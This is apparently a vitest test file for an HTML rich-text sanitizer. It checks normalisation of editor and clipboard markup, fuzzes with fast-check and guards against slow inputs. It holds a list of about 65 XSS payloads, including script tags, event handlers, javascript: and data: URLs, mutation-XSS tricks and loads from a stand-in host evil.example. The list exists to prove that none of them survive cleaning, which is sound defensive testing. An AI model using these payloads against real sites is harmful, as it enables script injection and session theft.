import { longestMarkup, plainText, readRichText, writeRichText } from '@fairlead/contract/rich-text';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanDescription } from './description.ts';
import { richTextOf } from './rich-text-of.ts';

const clean = (html: string): string => writeRichText(richTextOf(html));

/** Everything that may stand in a kept text: these tags, without an attribute but a link's safe URL. */
const canonical =
  /^(?:<\/?(?:p|strong|em|ul|ol|li)>|<br>|<a href="(?:https?:\/\/|mailto:|tel:)[^"<>]*">|<\/a>|&(?:amp|lt|gt|quot);|[^<>&"])*$/;

describe('what an editor sends', () => {
  test.each([
    ['<p>Ratio 3 to 100, <b>backlash</b> below</p>', '<p>Ratio 3 to 100, <strong>backlash</strong> below</p>'],
    ['<p>a<br>b</p><p></p><p>c</p>', '<p>a<br>b</p><p></p><p>c</p>'],
    ['<ul><li><p>one</p></li><li><p>two<br>lines</p></li></ul>', '<ul><li>one</li><li>two<br>lines</li></ul>'],
    ['<ol><li><p>a</p><p>b</p></li></ol>', '<ol><li>a<br>b</li></ol>'],
    [
      '<p><a target="_blank" rel="noopener" href="https://example.com/a?b=1&amp;c=2"><em>here</em></a></p>',
      '<p><a href="https://example.com/a?b=1&amp;c=2"><em>here</em></a></p>',
    ],
    ['<p>2 &lt; 3 &amp; 4 &gt; 1</p>', '<p>2 &lt; 3 &amp; 4 &gt; 1</p>'],
  ])('%s', (sent, kept) => {
    expect(clean(sent)).toBe(kept);
    expect(clean(kept)).toBe(kept);
    expect(writeRichText(readRichText(kept))).toBe(kept);
  });
});

describe('what a word processor or a page puts on the clipboard', () => {
  test.each([
    ['<h1>Title</h1>\n<div><div>A&nbsp; b</div> c</div>', '<p>Title</p><p>A b</p><p>c</p>'],
    ['<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>', '<ul><li>a</li><li>b</li><li>c</li></ul>'],
    ['<li>alone</li><p>after</p>', '<ul><li>alone</li></ul><p>after</p>'],
    ['<table><tr><td>x</td><td>1</td></tr><tr><td>y</td></tr></table>', '<p>x 1</p><p>y</p>'],
    ['<p class="MsoNormal"><o:p>Word</o:p></p><!--[if mso]>no<![endif]-->', '<p>Word</p>'],
    ['<p>a</p><p> </p><p>&nbsp;</p><p><br></p><p>b</p><p></p>', '<p>a</p><p></p><p>b</p>'],
    ['text <b>bold</b><p>para', '<p>text <strong>bold</strong></p><p>para</p>'],
    ['<a href="www.example.com">relative</a> <a>none</a>', '<p>relative none</p>'],
    ['<p>a</p></ul></li></b></a><p>b</p>', '<p>a</p><p>b</p>'],
  ])('%s', (sent, kept) => {
    expect(clean(sent)).toBe(kept);
  });
});

/** The classes of OWASP's cheat sheet and of published bypasses of sanitizers. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/xss src="//evil.example"></script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="https://evil.example/pixel.gif?id=1" width=1 height=1>',
  '<img/src=`x`onerror=alert(1)>',
  '<picture><source srcset=//evil.example/p></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style>',
  '<p style="background:url(//evil.example/p)">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="javascript:/a/-alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<a href=\'https://ok.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://ok.example/`><img src=x onerror=alert(1)>">x</a>',
  '<p title="`<img src=x onerror=alert(1)>`">x</p>',
  '<b <script>alert(1)</script>>x</b>',
  '<p/onclick=alert(1)>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&#60;img src=x onerror=alert(1)&#62;</p>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<p>\u2028<img\u00a0src=x onerror=alert(1)></p>',
  '<div id="x" name="cookie"><p data-x="y" aria-label="z" slot="s" is="x-y">kept</p></div>',
];

describe('what does not survive', () => {
  test.each(vectors)('%s', (vector) => {
    for (const sent of [
      vector,
      `<p>before ${vector} after</p>`,
      `<ul><li>${vector}`,
      `<a href="https://x.example">${vector}`,
    ]) {
      const kept = clean(sent);
      expect(kept).toMatch(canonical);
      expect(clean(kept)).toBe(kept);
    }
  });

  test('any text, and any tags in any order, end in the one form and stay as they are', () => {
    const tag = fc
      .tuple(
        fc.constantFrom('<', '</', '<!--', '<![', '<?'),
        fc.constantFrom(
          'p',
          'b',
          'em',
          'ul',
          'ol',
          'li',
          'a',
          'br',
          'script',
          'style',
          'svg',
          'math',
          'div',
          'td',
          'x-y',
          '',
        ),
        fc.constantFrom(
          '',
          ' onclick="alert(1)"',
          " href='javascript:alert(1)'",
          ' href="https://a.example/\'"',
          ' "',
          " '",
          '/',
        ),
        fc.constantFrom('>', '/>', '', '-->'),
      )
      .map((pieces) => pieces.join(''));
    const entity = fc.constantFrom('&lt;script&gt;', '&#x3c;', '&quot;', '&nbsp;', '&', '&amp;lt;');
    const soup = fc.array(fc.oneof(tag, tag, entity, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 30 });
    fc.assert(
      fc.property(soup, (pieces) => {
        const kept = clean(pieces.join(''));
        expect(kept).toMatch(canonical);
        expect(writeRichText(readRichText(kept))).toBe(kept);
        expect(clean(kept)).toBe(kept);
      }),
      { numRuns: 1000 },
    );
  });

  test.each([
    ['deep', '<div>'.repeat(longestMarkup / 5)],
    ['many open links', '<a>x'.repeat(longestMarkup / 4)],
    ['formatting that is opened anew in every paragraph', '<p><b class=x>'.repeat(longestMarkup / 14)],
    ['blank parts of an item', `<li>${'<p> '.repeat(longestMarkup / 4)}`],
    ['ends of what never began', `${'<b>'.repeat(8000)}${'</i>'.repeat(6000)}`],
  ])('%s markup costs little', (_, sent) => {
    const before = process.cpuUsage();
    richTextOf(sent);
    // A few milliseconds; what grows with the square takes many seconds. A machine that is busy does not make it more.
    expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
  });
});

describe('a description', () => {
  test('of plain text becomes paragraphs and keeps every sign', async () => {
    expect(await cleanDescription('One\ntwo\n\n  \nThree & 2 < 3 "x"')).toBe(
      '<p>One<br>two</p><p>Three &amp; 2 &lt; 3 &quot;x&quot;</p>',
    );
    expect(await cleanDescription('One\r\n\r\nTwo')).toBe('<p>One</p><p>Two</p>');
    expect(await cleanDescription('a <3 b')).toBe('<p>a &lt;3 b</p>');
  });

  test('without text is none', async () => {
    for (const sent of [
      null,
      '',
      ' \n ',
      '<p></p>',
      '<script>alert(1)</script>',
      '<img src=x>',
      '<ul><li> </li></ul>',
    ]) {
      expect(await cleanDescription(sent)).toBeNull();
    }
  });

  test('has 2,000 visible characters at most; what is around them does not count', async () => {
    const text = 'x'.repeat(2000);
    const kept = await cleanDescription(`<p style="${'y'.repeat(5000)}"><b>${text}</b></p>`);
    expect(plainText(readRichText(kept ?? ''))).toBe(text);
    await expect(cleanDescription(`<p>${text}</p><p>y</p>`)).rejects.toMatchObject({
      path: 'body.description',
      code: 'text_too_long',
    });
    await expect(cleanDescription(`${text}y`)).rejects.toMatchObject({ code: 'text_too_long' });
  });
});
